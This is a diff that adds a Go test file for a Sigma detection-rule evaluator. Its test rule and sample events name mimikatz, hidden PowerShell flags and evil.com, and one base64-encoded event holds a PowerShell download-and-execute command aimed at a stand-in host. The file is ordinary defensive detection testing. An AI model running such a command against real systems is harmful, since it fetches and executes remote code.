@@ -0,0 +1,118 @@
+package eval
+
+import (
+	"encoding/base64"
+	"github.com/0xThiebaut/sigmai/lib/sigma"
+	"io"
+	"strings"
+	"testing"
+)
+
+const rules = `title: Test
+id: 3d0c7b5d-1c52-4a9f-9f5a-2c4d6f7e8a9b
+logsource:
+  product: windows
+detection:
+  image:
+    Image|endswith: \evil.exe
+  encoded:
+    CommandLine|base64offset|contains: http://evil.com
+  wide:
+    Payload|wide|base64|contains: cmd
+  every:
+    CommandLine|contains|all:
+    - -nop
+    - -w hidden
+  regex:
+    CommandLine|re: 'evil\.(com|net)'
+  network:
+    DestinationIp|cidr: 10.0.0.0/8
+  wildcard:
+    Image: C:\Windows\\*\svc?ost.exe
+  escaped:
+    CommandLine: 'literal \*'
+  nested:
+    process.parent.name: explorer.exe
+  keywords:
+  - mimikatz
+  filter:
+    User: null
+  condition: (image or 1 of enc* or wide) and not filter or all of n* or regex or every or wildcard or escaped or keywords
+`
+
+func TestRule_Match(t *testing.T) {
+	collection, err := sigma.ParseCollection(strings.NewReader(rules))
+	if err != nil {
+		t.Fatal(err)
+	}
+	compiled, err := Compile(collection)
+	if err != nil {
+		t.Fatal(err)
+	}
+	r := compiled[0]
+	wide := base64.StdEncoding.EncodeToString([]byte("c\x00m\x00d\x00"))
+	encoded := base64.StdEncoding.EncodeToString([]byte("IEX (New-Object Net.WebClient).DownloadString('http://evil.com/a')"))
+	tests := map[string]bool{
+		`{"Image": "C:\\Temp\\EVIL.exe", "User": "admin"}`:                               true,
+		`{"Image": "C:\\Temp\\EVIL.exe"}`:                                                false,
+		`{"Image": "C:\\Temp\\notevil.exe.txt"}`:                                         false,
+		`{"CommandLine": "powershell -e ` + encoded + `", "User": "x"}`:                  true,
+		`{"Payload": "xx` + wide + `xx", "User": "x"}`:                                   true,
+		`{"CommandLine": "powershell -NOP -W hidden"}`:                                   true,
+		`{"CommandLine": "powershell -nop"}`:                                             false,
+		`{"CommandLine": "ping evil.net"}`:                                               true,
+		`{"CommandLine": "ping evilXnet"}`:                                               false,
+		`{"DestinationIp": "10.1.2.3", "process": {"parent": {"name": "Explorer.EXE"}}}`: true,
+		`{"DestinationIp": "11.1.2.3", "process": {"parent": {"name": "Explorer.EXE"}}}`: false,
+		`{"Image": "c:\\windows\\system32\\svchost.exe", "User": "x"}`:                   true,
+		`{"CommandLine": "literal *"}`:                                                   true,
+		`{"CommandLine": "literal x"}`:                                                   false,
+		`{"Data": ["a", "running Mimikatz.exe"]}`:                                        true,
+		`{"EventID": 1}`: false,
+	}
+	for event, expected := range tests {
+		e, err := NewDecoder(strings.NewReader(event)).Decode()
+		if err != nil {
+			t.Fatal(err)
+		}
+		if actual := r.Match(e); actual != expected {
+			t.Errorf("Match(%s) = %t, expected %t", event, actual, expected)
+		}
+	}
+}
+
+func TestCompile_Invalid(t *testing.T) {
+	for _, detection := range []string{
+		"sel: {a: b}\n  condition: other",
+		"sel: {a|unknown: b}\n  condition: sel",
+		"sel: {a|re: '('}\n  condition: sel",
+		"sel: {a: b}\n  condition: sel | count() > 5",
+	} {
+		collection, err := sigma.ParseCollection(strings.NewReader("title: x\ndetection:\n  " + detection))
+		if err != nil {
+			t.Fatal(err)
+		}
+		if _, err := Compile(collection); err == nil {
+			t.Errorf("Compile(%s) expected an error", detection)
+		}
+	}
+}
+
+func TestDecoder_Decode(t *testing.T) {
+	for _, stream := range []string{"{\"a\": 1}\n{\"a\": 2}\n", " [{\"a\": 1}, {\"a\": 2}]"} {
+		d := NewDecoder(strings.NewReader(stream))
+		count := 0
+		for {
+			_, err := d.Decode()
+			if err == io.EOF {
+				break
+			} else if err != nil {
+				t.Fatalf("Decode(%s) error = %s", stream, err)
+			}
+			count++
+		}
+		if count != 2 {
+			t.Errorf("Decode(%s) returned %d events, expected 2", stream, count)
+		}
+	}
+}